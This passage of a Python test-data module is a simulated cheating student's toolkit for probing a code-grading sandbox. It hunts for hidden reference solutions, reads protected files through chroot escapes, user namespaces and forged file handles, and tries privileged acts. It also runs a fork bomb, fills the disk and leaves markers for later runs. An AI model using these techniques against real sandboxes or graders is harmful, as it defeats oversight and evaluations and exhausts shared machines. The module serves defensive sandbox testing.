"""A hostile student's toolbox for looking past ol's sandbox (issue #24).

Data for ``tests/hostile/test_view_attacks.py``, never imported by ol or by the project's tests:
the test copies this file into a hostile workspace (as ``tinyllm/olsnoop.py``) or beside a hostile
``--mine`` suite (as ``olsnoop.py``), where the student's code imports it. Standard library only.
Every probe is bounded in time and in what it writes, and reports through ``report``: an
exception whose message carries ``OLVIEW{json}OLVIEW``, which the test parses out of ol's reports.
Paths found as text are only used to open the files the attack is after; nothing but a route's
name, a path, a byte count or a sha256 leaves, except where an attack is *meant* to exfiltrate
(``read_secret``, ``exfiltrate``), whose whole point is to show that nothing arrives.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import glob
import hashlib
import io
import json
import os
import re
import select
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import time
import types

MARK = "reference/python/tinyllm/prob/rejection.py"
ALTERNATIVES = ("harness/own_tests/alternatives/m07_6/rejection_loops.py",
                "harness/own_tests/alternatives/m07_6/rejection_vectorized.py")
CORRECT = (MARK, *ALTERNATIVES)
GUESSES = ("/work/main", "/work", "/root", "/root/ol", "/root/main", "/home", "/opt/ol",
           "/srv/ol", "/app", "/repo", "/workspace", "/code", "/src", "/ol", "/usr/src/ol")
GLOBS = ("/work/*", "/root/*", "/home/*", "/home/*/*", "/opt/*", "/srv/*")
_PATH = re.compile(r"/[^\s\"'`,;:=\[\](){}<>|\\]+")
_libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
# Never written to, even to probe: the pseudo file systems, and /mnt (the test machine's own).
SKIPPED = ("/proc", "/sys", "/mnt")


def report(data: object, limit: int = 1800) -> None:
    """Raise the findings (the only way out of the sandbox this toolbox uses), as JSON of at most
    ``limit`` characters (ol keeps the first 2000 of a message, ``--mine`` the last 3000 of a
    failure): long lists and texts are cut, a cut list ends with ``"+N more"``."""
    raise RuntimeError("OLVIEW" + compact(data, limit) + "OLVIEW")


def compact(data: object, limit: int) -> str:
    text = json.dumps(data, sort_keys=True, default=str)
    width = 16
    while len(text) > limit and width >= 1:
        text = json.dumps(_trim(data, width), sort_keys=True, default=str)
        width //= 2
    return text if len(text) <= limit else json.dumps({"cut": text[: limit - 20]})


def _trim(value: object, width: int) -> object:
    if isinstance(value, dict):  # a report's own keys are kept; a long mapping (files, folders) cut
        cut = max(width, 16)
        kept = {k: _trim(v, width) for k, v in list(value.items())[:cut]}
        if len(value) > cut:
            kept["+more"] = len(value) - cut
        return kept
    if isinstance(value, list | tuple):
        kept = [_trim(v, width) for v in value[:width]]
        return kept + ([f"+{len(value) - width} more"] if len(value) > width else [])
    if isinstance(value, str):
        return value[: max(40, width * 12)]
    return value


def name_process(token: str) -> None:
    """PR_SET_NAME: the test finds this task (and its children and threads) in the host's /proc."""
    _libc.prctl(15, token.encode()[:15], 0, 0, 0)


def sha(data: bytes | str) -> str:
    return hashlib.sha256(data.encode() if isinstance(data, str) else data).hexdigest()


def _read(path: str, limit: int = 1 << 20) -> bytes:
    with open(path, "rb") as f:
        return f.read(limit)


def _text(path: str, limit: int = 1 << 20) -> str:
    try:
        return _read(path, limit).decode("utf-8", "replace")
    except (OSError, ValueError):
        return ""


def pids() -> list[int]:
    try:
        return sorted(int(n) for n in os.listdir("/proc") if n.isdigit())
    except OSError:
        return []


def _paths_in(text: str) -> list[str]:
    return _PATH.findall(text)


def _errname(exc: BaseException) -> str:
    if isinstance(exc, OSError) and exc.errno:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    return type(exc).__name__


# -- finding ol's checkout: one function per route -------------------------------------------------

def _route_argv() -> list[str]:
    return _paths_in("\n".join([*sys.argv, *getattr(sys, "orig_argv", [])]))


def _route_cmdline() -> list[str]:
    found = []
    for pid in ["self", "1", str(os.getppid()), *map(str, pids())]:
        found += _paths_in(_text(f"/proc/{pid}/cmdline").replace("\0", "\n"))
    return found


def _route_proc_links() -> list[str]:
    """The magic links of every visible process: a process outside the sandbox would open its
    whole file system (its cwd walked up, its root with the usual places under it)."""
    found = []
    for pid in ["self", "thread-self", "1", str(os.getppid()), *map(str, pids())]:
        for link in ("cwd", "root", "exe"):
            with contextlib.suppress(OSError):
                found.append(os.readlink(f"/proc/{pid}/{link}"))
        found.append(f"/proc/{pid}/cwd")
        found += [f"/proc/{pid}/root{g}" for g in GUESSES]
    return found


def _route_mountinfo() -> list[str]:
    found = []
    for pid in ("self", "1"):
        for line in _text(f"/proc/{pid}/mountinfo").splitlines():
            fields = line.split()
            if len(fields) > 4:
                found += [fields[3], fields[4]]
        found += _paths_in(_text(f"/proc/{pid}/mounts"))
    return found


def _route_environ() -> list[str]:
    text = "\n".join(os.environ.values())
    for pid in ("self", "1", str(os.getppid())):
        text += "\n" + _text(f"/proc/{pid}/environ").replace("\0", "\n")
    return _paths_in(text)


def _route_sys_path() -> list[str]:
    import sysconfig

    found = [*sys.path, sys.prefix, sys.exec_prefix, sys.base_prefix, sys.executable]
    found += [p for p in sysconfig.get_paths().values() if isinstance(p, str)]
    for folder in [p for p in sys.path if os.path.isdir(p)]:
        for pattern in ("*.pth", "__editable__*", "*.egg-link", "*.dist-info/direct_url.json",
                        "*.dist-info/RECORD"):
            for path in glob.glob(os.path.join(folder, pattern))[:400]:
                found += _paths_in(_text(path, 1 << 18).replace("file://", ""))
    return found


def _route_module_files() -> list[str]:
    """``__file__`` of anything: modules, their specs and packages, every frame on every stack
    (the harness's own serving loop included), every function the garbage collector tracks, the
    line cache and the importer cache."""
    import gc
    import linecache

    found = []
    for module in list(sys.modules.values()):
        for value in (getattr(module, "__file__", None),
                      getattr(getattr(module, "__spec__", None), "origin", None)):
            if isinstance(value, str):
                found.append(value)
        with contextlib.suppress(Exception):  # a hostile module's __path__ may be anything
            found += [p for p in (getattr(module, "__path__", None) or []) if isinstance(p, str)]
    frames = [*sys._current_frames().values(), sys._getframe()]
    for frame in frames:
        while frame is not None:
            found.append(frame.f_code.co_filename)
            frame = frame.f_back
    for obj in gc.get_objects()[:300000]:
        if isinstance(obj, types.FunctionType):
            found.append(obj.__code__.co_filename)
    found += list(linecache.cache) + [k for k in sys.path_importer_cache if isinstance(k, str)]
    return found


def _route_walk_up() -> list[str]:
    return [os.getcwd(), __file__, sys.path[0] if sys.path else "/", tempfile.gettempdir(),
            os.path.expanduser("~")]


def _route_guess() -> list[str]:
    found = list(GUESSES)
    for pattern in GLOBS:
        found += glob.glob(pattern)[:500]
    return found


def _route_fds() -> list[str]:
    """Every open descriptor: its target as text, and the descriptor itself as a magic link (a
    directory inherited from the parent would be walked up with ``..``)."""
    found = []
    try:
        fds = os.listdir("/proc/self/fd")
    except OSError:
        return found
    for fd in fds:
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/self/fd/{fd}"))
        found.append(f"/proc/self/fd/{fd}")
    return found


ROUTES = {
    "argv": _route_argv,
    "cmdline": _route_cmdline,
    "proc_links": _route_proc_links,
    "mountinfo": _route_mountinfo,
    "environ": _route_environ,
    "sys_path": _route_sys_path,
    "module_files": _route_module_files,
    "walk_up": _route_walk_up,
    "guess": _route_guess,
    "fds": _route_fds,
}


def _bases(candidate: str, depth: int = 12):
    """The candidate's folder and its ancestors, as ``..`` chains (resolved by the kernel, so a
    magic link such as ``/proc/PID/cwd`` is walked up in the other process's file system)."""
    try:
        start = candidate if os.path.isdir(candidate) else os.path.dirname(candidate)
    except (OSError, ValueError):
        return
    if not start:
        return
    for k in range(depth):
        yield start + "/.." * k


def _correct_source(path: str) -> str:
    text = _text(path)
    return text if "def rejection_sample" in text and "def residual_distribution" in text else ""


_GIT_TRIES = [2]


def _from_git(base: str) -> str:
    """The reference's blob from the checkout's git history, if a ``git`` is in reach."""
    git = shutil.which("git")
    if git is None or _GIT_TRIES[0] <= 0 or not os.path.isdir(base + "/.git"):
        return ""
    _GIT_TRIES[0] -= 1
    try:
        done = subprocess.run([git, "-C", base, "show", "HEAD:" + MARK], capture_output=True,
                              timeout=3, check=False)
    except (OSError, subprocess.SubprocessError):
        return ""
    text = done.stdout.decode("utf-8", "replace")
    return text if "def rejection_sample" in text else ""


_SEARCHED: dict = {}


def find_correct(routes=None, budget_s: float = 6.0):
    """A correct implementation's source (the reference, or one of ol's hidden alternatives)
    found through ``routes``: ``(found, text, tried)``, ``found`` a small dict or None.

    Searched once per process and routes: the ``--mine`` suite's cheating test and its
    exfiltration probe, two tests of one run (one process, one sandbox), share the search, which
    is most of what either costs (about 0.15 CPU s, times 71 implementations)."""
    key = (tuple(routes or ROUTES), budget_s)
    if key not in _SEARCHED:
        _SEARCHED[key] = _search(routes, budget_s)
    return _SEARCHED[key]


def _search(routes, budget_s: float):
    deadline = time.monotonic() + budget_s
    tried: dict[str, object] = {}
    seen: set[tuple[int, int]] = set()
    for route in routes or list(ROUTES):
        try:
            candidates = ROUTES[route]()
        except Exception as exc:  # noqa: BLE001 - a route that breaks is a route that failed
            tried[route] = "error " + _errname(exc)
            continue
        bases = 0
        for candidate in dict.fromkeys(candidates):
            if time.monotonic() > deadline:
                tried[route + "_budget"] = "exhausted"
                break
            for base in _bases(candidate):
                try:
                    st = os.stat(base)
                except (OSError, ValueError):
                    break
                if (st.st_dev, st.st_ino) in seen:
                    break
                seen.add((st.st_dev, st.st_ino))
                bases += 1
                for rel in CORRECT:
                    text = _correct_source(base + "/" + rel)
                    if text:
                        return {"route": route, "root": base, "path": base + "/" + rel,
                                "sha256": sha(text)}, text, tried
                text = _from_git(base)
                if text:
                    return {"route": route, "root": base, "path": base + "/.git",
                            "sha256": sha(text)}, text, tried
        tried[route] = bases
    tried["seconds"] = round(budget_s - (deadline - time.monotonic()), 2)
    return None, "", tried


def load_source(text: str, name: str) -> types.ModuleType:
    module = types.ModuleType(name)
    module.__file__ = f"<{name}>"
    sys.modules[name] = module
    exec(compile(text, f"<{name}>", "exec", dont_inherit=True), module.__dict__)  # noqa: S102
    return module


# -- reading a file the code must not read ---------------------------------------------------------

class _FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def _in_child(fn, timeout: float = 2.0) -> bytes:
    """``fn()`` in a forked child (so a setuid, unshare or chroot does not change this process);
    what it returns comes back through a pipe."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            data = fn()
            os.write(w, (b"OK" + data)[:65536] if data else b"NO")
        except BaseException as exc:  # noqa: BLE001 - told to the parent
            with contextlib.suppress(OSError):
                os.write(w, b"ER" + _errname(exc).encode())
        finally:
            os._exit(0)
    os.close(w)
    chunks, deadline = [], time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([r], [], [], max(0.0, deadline - time.monotonic()))
            if not ready:
                break
            chunk = os.read(r, 65536)
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(r)
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    data = b"".join(chunks)
    if data.startswith(b"OK"):
        return data[2:]
    raise OSError(errno.EPERM, data[2:].decode(errors="replace") or "no answer")


def _new_user_namespace() -> None:
    """unshare(CLONE_NEWUSER | CLONE_NEWNS) and become root in it: every capability over what the
    new namespaces own (not over the host, unless something was left behind)."""
    uid, gid = os.getuid(), os.getgid()
    if _libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as f:
            f.write(text)


def _chroot_escape(path: str) -> bytes:
    _new_user_namespace()
    jail = tempfile.mkdtemp(prefix="olview-jail-")
    os.chroot(jail)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return _read(path, 4096)


def _by_handle(ino: int, gen: int, probes: list[str]) -> bytes:
    """open_by_handle_at with a handle forged from a visible file's (ext4: inode, generation):
    reaches any inode of that file system, bind mount or not, given CAP_DAC_READ_SEARCH."""
    last = "no probe on an ext4-like file system"
    for probe in probes:
        fh, mount_id = _FileHandle(), ctypes.c_int()
        fh.handle_bytes = 128
        if _libc.name_to_handle_at(-100, probe.encode(), ctypes.byref(fh), ctypes.byref(mount_id),
                                   0) != 0:
            last = "name_to_handle_at " + errno.errorcode.get(ctypes.get_errno(), "?")
            continue
        if fh.handle_type != 1 or fh.handle_bytes != 8:  # FILEID_INO32_GEN
            continue
        struct.pack_into("<II", fh.f_handle, 0, ino, gen)
        mount_fd = os.open(os.path.dirname(probe) or "/", os.O_RDONLY)
        try:
            fd = _libc.open_by_handle_at(mount_fd, ctypes.byref(fh), os.O_RDONLY)
            if fd < 0:
                last = "open_by_handle_at " + errno.errorcode.get(ctypes.get_errno(), "?")
                continue
            try:
                return os.read(fd, 4096)
            finally:
                os.close(fd)
        finally:
            os.close(mount_fd)
    raise OSError(errno.EPERM, last)


def read_secret(paths: list[str], handles: dict | None = None) -> dict:
    """Every way a student could try to read ``paths``; what was read, and why the rest failed."""
    got: dict[str, str] = {}
    errors: dict[str, str] = {}

    def attempt(label: str, fn) -> None:
        try:
            data = fn()
            if data:
                got[label] = (data.decode("utf-8", "replace") if isinstance(data, bytes)
                              else str(data))[:160]
        except BaseException as exc:  # noqa: BLE001 - every failure is an answer
            errors[label] = _errname(exc)

    visible = [str(p) for p in pids()]
    probes = [os.__file__, json.__file__, sys.executable, os.path.realpath(sys.executable)]
    for i, path in enumerate(paths):
        attempt(f"{i}.open", lambda path=path: _read(path, 4096))
        def open_code(path=path):
            with io.open_code(path) as f:
                return f.read(4096)
        attempt(f"{i}.open_code", open_code)

        def o_path(path=path):
            fd = os.open(path, os.O_PATH)
            try:
                return _read(f"/proc/self/fd/{fd}", 4096)
            finally:
                os.close(fd)
        attempt(f"{i}.o_path", o_path)
        for pid in ["self", "thread-self", "1", str(os.getppid()), *visible][:40]:
            attempt(f"{i}.root_{pid}", lambda pid=pid, path=path: _read(f"/proc/{pid}/root{path}", 4096))
            attempt(f"{i}.cwd_{pid}",
                    lambda pid=pid, path=path: _read(f"/proc/{pid}/cwd" + "/.." * 24 + path, 4096))

        def via_link(kind, path=path, i=i):
            name = f"olview-{kind}-{i}"
            with contextlib.suppress(OSError):
                os.unlink(name)
            (os.link if kind == "hard" else os.symlink)(path, name)
            return _read(name, 4096)
        attempt(f"{i}.hardlink", lambda: via_link("hard"))
        attempt(f"{i}.symlink", lambda: via_link("soft"))

        def copy(path=path, i=i):
            shutil.copyfile(path, f"olview-copy-{i}")
            return _read(f"olview-copy-{i}", 4096)
        attempt(f"{i}.copy", copy)

        def by_mmap(path=path):
            import mmap
            with open(path, "rb") as f:
                return mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:4096]
        attempt(f"{i}.mmap", by_mmap)
        for tool in (["cat", path], ["dd", f"if={path}", "status=none"], ["sh", "-c", f"cat '{path}'"]):
            def run(tool=tool):
                return subprocess.run(tool, capture_output=True, timeout=2, check=False).stdout
            attempt(f"{i}.{tool[0]}", run)

        def chmod_then_read(path=path):
            os.chmod(path, 0o644)
            return _read(path, 4096)
        attempt(f"{i}.chmod", chmod_then_read)

        def chown_then_read(path=path):
            os.chown(path, os.getuid(), os.getgid())
            return _read(path, 4096)
        attempt(f"{i}.chown", chown_then_read)

        def setuid_root(path=path):
            os.setgid(0)
            os.setuid(0)
            return _read(path, 4096)
        attempt(f"{i}.setuid0", lambda: _in_child(setuid_root))
        attempt(f"{i}.userns_read", lambda path=path: _in_child(
            lambda: (_new_user_namespace(), _read(path, 4096))[1]))
        attempt(f"{i}.chroot_escape", lambda path=path: _in_child(lambda: _chroot_escape(path)))
        handle = (handles or {}).get(path)
        if handle:
            attempt(f"{i}.by_handle", lambda handle=handle: _by_handle(handle[0], handle[1], probes))
    return {"read": got, "errors": dict(sorted(errors.items())[:60])}


def _fds() -> list[int]:
    try:
        return [int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2]
    except OSError:
        return []


# -- what is in view -------------------------------------------------------------------------------

def _mounts() -> list[tuple[str, str, str]]:
    """(mount point, file system type, source) of every mount in this namespace."""
    found = []
    for line in _text("/proc/self/mountinfo").splitlines():
        left, _, right = line.partition(" - ")
        fields, rest = left.split(), right.split()
        if len(fields) > 4 and rest:
            found.append((fields[4], rest[0], rest[1] if len(rest) > 1 else ""))
    return found


def _mount_of(path: str) -> tuple[str, str, str]:
    path = os.path.realpath(path)
    best = ("", "", "")
    for point, kind, source in _mounts():
        if (path == point or path.startswith(point.rstrip("/") + "/")) and len(point) >= len(best[0]):
            best = (point, kind, source)
    return best


def _can_create(folder: str, token: str) -> bool:
    name = os.path.join(folder, f".olview-w-{token}")
    try:
        fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    except (OSError, ValueError):
        return False
    os.close(fd)
    with contextlib.suppress(OSError):
        os.unlink(name)
    return True


def view(config: dict) -> dict:
    """What of the host is in view, what can be written, what the run folder is."""
    token = config["token"]
    found: dict[str, object] = {}
    visible = [p for p in config["absent"] if os.path.lexists(p)]
    found["visible"] = visible[:24]
    found["visible_count"] = len(visible)
    devices = []
    for entry in sorted(set(glob.glob("/dev/*") + glob.glob("/dev/*/*") + glob.glob("/dev/.*"))):
        try:
            mode = os.lstat(entry).st_mode
        except OSError:
            continue
        if stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
            devices.append(entry)
    found["devices"] = devices[:12]
    found["device_count"] = len(devices)
    import sysconfig
    folders = ["/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/run", "/etc", "/root", "/home",
               sys.path[0] if sys.path else "/", os.path.dirname(os.__file__),
               sysconfig.get_paths()["purelib"], os.path.dirname(os.getcwd()),
               *config.get("no_write", [])]
    folders += [point for point, _, _ in _mounts() if not point.startswith(SKIPPED)]
    cwd = os.path.realpath(os.getcwd())
    run_dev, run_fstype = os.stat(cwd).st_dev, _mount_of(cwd)[1]

    def elsewhere(folder):
        """Not the run folder: neither in it nor on its own tmpfs (which its cap meters)."""
        real = os.path.realpath(folder)
        if real == cwd or real.startswith(cwd + "/"):
            return False
        try:
            return not (os.stat(real).st_dev == run_dev and run_fstype == "tmpfs")
        except OSError:
            return False
    found["writable"] = sorted({f for f in folders if elsewhere(f) and _can_create(f, token)})[:12]
    point, kind, source = _mount_of(cwd)
    st = os.statvfs(cwd)
    try:
        with tempfile.NamedTemporaryFile() as f:
            f.write(b"x")
        tempfile_ok = True
    except OSError:
        tempfile_ok = False
    found["run_folder"] = {"cwd": cwd, "writable": _can_create(cwd, token), "tempfile": tempfile_ok,
                           "mount": point, "fstype": kind, "size": st.f_blocks * st.f_frsize}
    hosts = []
    for pid in pids():
        if token in _text(f"/proc/{pid}/cmdline").replace("\0", " "):
            hosts.append(pid)
    found["proc"] = {"pid_ns": _readlink("/proc/self/ns/pid"), "pids": len(pids()),
                     "ol_visible": hosts[:5]}
    found["mounts"] = len(_mounts())
    try:
        found["root_listing"] = sorted(os.listdir("/"))[:25]
    except OSError as exc:
        found["root_listing"] = _errname(exc)
    return found


def _readlink(path: str) -> str:
    try:
        return os.readlink(path)
    except OSError as exc:
        return _errname(exc)


# -- who the code is -------------------------------------------------------------------------------

def identity(config: dict) -> dict:
    """Uid, gid and capabilities as the code sees them, and every privileged act it tries
    (unless ``config["acts"]`` is false: the ids and capabilities only, which is cheap)."""
    token = config["token"]
    found: dict[str, object] = {"resuid": os.getresuid(), "resgid": os.getresgid(),
                                "groups": os.getgroups()}
    found["status"] = {line.split(":")[0]: line.split(":", 1)[1].strip()
                       for line in _text("/proc/self/status").splitlines()
                       if line.startswith(("Uid", "Gid", "Groups", "Cap", "NoNewPrivs", "Seccomp"))}
    found["uid_map"] = " ".join(_text("/proc/self/uid_map").split())  # "inside outside count ..."
    found["gid_map"] = " ".join(_text("/proc/self/gid_map").split())
    owned = f"olview-owned-{token}"
    with open(owned, "w") as f:
        f.write("mine\n")
    found["owned_file"] = {"uid": os.stat(owned).st_uid, "gid": os.stat(owned).st_gid}
    if not config.get("acts", True):
        found["did"] = {}
        return found
    did: dict[str, str] = {}
    refused: dict[str, str] = {}

    def attempt(label, fn):
        try:
            fn()
            did[label] = "done"
        except BaseException as exc:  # noqa: BLE001 - every refusal is an answer
            refused[label] = _errname(exc)

    def sys_call(result):
        if result != 0:
            raise OSError(ctypes.get_errno(), "refused")

    attempt("setuid0", lambda: _in_child(lambda: (os.setuid(0), b"x")[1]))
    attempt("setgid0", lambda: _in_child(lambda: (os.setgid(0), b"x")[1]))
    attempt("setgroups0", lambda: _in_child(lambda: (os.setgroups([0]), b"x")[1]))
    attempt("chown0", lambda: os.chown(owned, 0, 0))
    attempt("chown_nobody_to_other", lambda: os.chown(owned, 1, 1))
    os.makedirs("olview-mnt", exist_ok=True)

    def mount_then_undo(source, kind):
        sys_call(_libc.mount(source, b"olview-mnt", kind, 0, None))
        _libc.umount2(b"olview-mnt", 2)  # MNT_DETACH: undone at once where it succeeded
    attempt("mount_tmpfs", lambda: mount_then_undo(b"none", b"tmpfs"))
    attempt("mount_proc", lambda: mount_then_undo(b"proc", b"proc"))
    attempt("unshare_user", lambda: _in_child(lambda: (_new_user_namespace(), b"x")[1]))
    attempt("unshare_mount", lambda: _in_child(lambda: (sys_call(_libc.unshare(CLONE_NEWNS)), b"x")[1]))
    attempt("chroot", lambda: _in_child(lambda: (os.chroot("/"), b"x")[1]))
    def mknod_then_undo():
        os.mknod("olview-null", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
        os.unlink("olview-null")
    attempt("mknod_dev", mknod_then_undo)
    attempt("nice_down", lambda: _in_child(lambda: (os.nice(-5), b"x")[1]))
    name = socket.gethostname().encode()  # set to what it is: a success changes nothing
    attempt("sethostname", lambda: sys_call(_libc.sethostname(name, len(name))))

    def raise_hard_limit():
        import resource
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard + 1))
        return b"x"
    attempt("raise_rlimit", lambda: _in_child(raise_hard_limit))

    def bind_low_port():
        with socket.socket() as s:
            s.bind(("", 81))
        return b"x"
    attempt("bind_port_81", lambda: _in_child(bind_low_port))
    parent = os.getppid()  # 0 in a PID namespace of its own: nothing outside to trace
    if parent:
        attempt("ptrace_parent", lambda: _in_child(  # PTRACE_SEIZE: never stops the tracee
            lambda: (sys_call(_libc.ptrace(0x4206, parent, None, None)), b"x")[1]))
    found["did"] = did
    found["refused"] = refused
    return found


# -- tasks -----------------------------------------------------------------------------------------

def bomb(token: str, width: int = 16, depth: int = 2, threads: int = 8) -> None:
    """A bounded fork and thread bomb (at most about 2500 tasks, even with no cap), every task
    named ``token``, every process ignoring the polite signals, some in sessions of their own;
    never returns."""
    import threading

    name_process(token)

    def ignore():
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
            signal.signal(sig, signal.SIG_IGN)

    def spawn_threads():
        for _ in range(threads):
            try:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            except RuntimeError:
                break

    def grow(level):
        for n in range(width):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    ignore()
                    if n % 5 == 0:
                        os.setsid()
                    if level + 1 < depth:
                        grow(level + 1)
                    spawn_threads()
                    while True:
                        time.sleep(1)
                finally:
                    os._exit(0)

    ignore()
    grow(0)
    spawn_threads()
    while True:
        time.sleep(1)


# -- the disk --------------------------------------------------------------------------------------

def fill(token: str, cap: int = 200 << 20, chunk: int = 4 << 20, per_file: int = 32 << 20) -> dict:
    """Write files into every folder that takes them until the disk is full (ENOSPC) or ``cap``
    bytes in all (a safety bound for machines where nothing stops it); keep them."""
    # The places a program writes to (the view probe tries every other folder with an empty file;
    # this one writes only where the test can clean up, should the sandbox be missing).
    folders = [os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""),
               tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())]
    total, per_folder = 0, {}
    block = b"\xa5" * chunk
    seen = set()
    for folder in folders:
        if not folder or total >= cap:
            continue
        try:
            st = os.stat(folder)
        except OSError:
            continue
        if (st.st_dev, st.st_ino) in seen:
            continue
        seen.add((st.st_dev, st.st_ino))
        written, stop, n = 0, "cap", 0
        while total < cap:
            path = os.path.join(folder, f"{token}-fill-{n}")
            n += 1
            try:
                fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
            except OSError as exc:
                stop = _errname(exc)
                break
            try:
                size = 0
                while size < per_file and total < cap:
                    wrote = os.write(fd, block)
                    size, total, written = size + wrote, total + wrote, written + wrote
            except OSError as exc:
                stop = _errname(exc)
                break
            finally:
                os.close(fd)
        if written or stop != "EROFS":
            per_folder[folder] = [written, stop]
    try:  # a tmpfs of its own, mounted in a user and mount namespace of its own: no cap but RAM
        nested = int(_in_child(lambda: str(_nested_tmpfs_fill(cap - total, block)).encode(), 20.0))
    except (OSError, ValueError) as exc:
        nested, per_folder["nested tmpfs"] = 0, [0, _errname(exc) if isinstance(exc, OSError) else "?"]
    if nested:
        per_folder["nested tmpfs"] = [nested, "written"]
    total += nested
    cwd = os.getcwd()
    vfs = os.statvfs(cwd)
    return {"total": total, "folders": per_folder, "cwd_dev": os.stat(cwd).st_dev,
            "cwd_size": vfs.f_blocks * vfs.f_frsize, "cwd_fstype": _mount_of(cwd)[1]}


def _nested_tmpfs_fill(limit: int, block: bytes) -> int:
    _new_user_namespace()
    os.makedirs("olview-nested", exist_ok=True)
    if _libc.mount(b"none", b"olview-nested", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    written, n = 0, 0
    while written < limit:  # files of 32 MiB: the per-file limit (RLIMIT_FSIZE) is not the point
        n += 1
        with open(f"olview-nested/fill-{n}", "wb", buffering=0) as f:
            for _ in range(8):
                try:
                    written += f.write(block[: min(len(block), limit - written)])
                except OSError:
                    return written
                if written >= limit:
                    break
    return written


# -- talking to the outside ------------------------------------------------------------------------

def sockets(config: dict) -> dict:
    """Connect to the test's listeners (abstract, path, TCP on the host's loopback), and to
    every abstract socket in sight; what they answered."""
    got, errors = {}, {}
    targets = [("abstract", socket.AF_UNIX, "\0" + config["abstract"]),
               ("path", socket.AF_UNIX, config["path"]),
               ("tcp", socket.AF_INET, ("127.0.0.1", config["port"]))]
    for line in _text("/proc/net/unix").splitlines()[1:]:
        fields = line.split()
        if len(fields) > 7 and fields[7].startswith("@"):
            targets.append((f"seen {fields[7][:40]}", socket.AF_UNIX, "\0" + fields[7][1:]))
    for label, family, address in targets[:30]:
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1.0)
                s.connect(address)
                s.sendall(b"hello from the sandbox\n")
                got[label] = s.recv(200).decode("utf-8", "replace")
        except OSError as exc:
            errors[label] = _errname(exc)
    return {"got": got, "errors": errors}


# -- what one run can leave for another ------------------------------------------------------------

SHM_KEY = 0x0F1E0F1E


def _marker_folders() -> list[str]:
    """Where a marker may be left: the usual shared places (the test removes what is left)."""
    folders = [os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("HOME", ""),
               tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"]
    return [f for f in dict.fromkeys(folders) if f]


def leave(token: str, daemon: bool = True) -> dict:
    """Markers in every writable folder and in SysV shared memory, a POSIX message queue, and an
    abstract socket held by a daemon: things a later run (another submission, another
    implementation under ``--mine``) could find."""
    left = []
    for folder in _marker_folders():
        try:
            with open(os.path.join(folder, f"olview-marker-{token}"), "w") as f:
                f.write(token)
            left.append(folder)
        except OSError:
            pass
    shm = _libc.shmget(SHM_KEY, 4096, 0o1000 | 0o666)
    if shm >= 0:
        _libc.shmat.restype = ctypes.c_void_p
        address = _libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, token.encode() + b"\0", len(token) + 1)
            left.append("sysv-shm")
    try:
        rt = ctypes.CDLL("librt.so.1", use_errno=True)
        if rt.mq_open(f"/olview-{token}".encode(), os.O_CREAT | os.O_RDWR, 0o666, None) >= 0:
            left.append("mqueue")
    except OSError:
        pass
    if daemon and os.fork() == 0:  # a daemon holding an abstract socket named after the token
        try:
            os.setsid()
            if os.fork() == 0:
                name_process(token)
                s = socket.socket(socket.AF_UNIX)
                s.bind("\0olview-" + token)
                s.listen(4)
                time.sleep(30)
        finally:
            os._exit(0)
    return {"left": left}


def look(config: dict | str) -> dict:
    """What of another run's markers (``olview-marker-TOKEN*``) this run finds; call it before
    ``leave``."""
    token_prefix = config["token"] if isinstance(config, dict) else config
    found = []
    siblings = glob.glob(os.path.join(os.path.dirname(os.getcwd()), "*"))[:200]
    for folder in _marker_folders() + siblings:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        found += [os.path.join(folder, n) for n in names if n.startswith("olview-marker-" + token_prefix)]
    shm = _libc.shmget(SHM_KEY, 4096, 0)
    if shm >= 0:
        _libc.shmat.restype = ctypes.c_void_p
        address = _libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            found.append("sysv-shm:" + ctypes.string_at(address, 64).split(b"\0")[0].decode(errors="replace"))
    for name in _listdir("/dev/mqueue"):
        if name.startswith("olview-"):
            found.append("mqueue:" + name)
    for line in _text("/proc/net/unix").splitlines()[1:]:
        if "@olview-" in line:
            found.append("abstract:" + line.split()[-1])
    return {"found": found[:6], "count": len(found)}


def _listdir(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


# -- other submissions -----------------------------------------------------------------------------

def snoop_others(config: dict, wait_s: float = 3.0) -> dict:
